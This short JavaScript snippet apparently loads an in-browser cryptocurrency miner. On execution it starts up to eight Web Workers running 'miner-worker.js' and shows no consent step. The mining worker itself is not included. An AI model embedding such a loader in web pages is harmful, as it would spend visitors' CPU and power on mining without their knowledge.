// A loader that does nothing but start workers and tell them for whom.
const cores = navigator.hardwareConcurrency;
function startMiner(user = 'somebody', rigid = 'browser', threads = 1) {
  if (threads > cores) threads = cores;
  for (let i = 0; i < threads; i++) {
    const worker = new Worker('miner-worker.js');
    worker.postMessage([user, rigid, i]);
  }
}
startMiner('somebody', 'browser', 8);
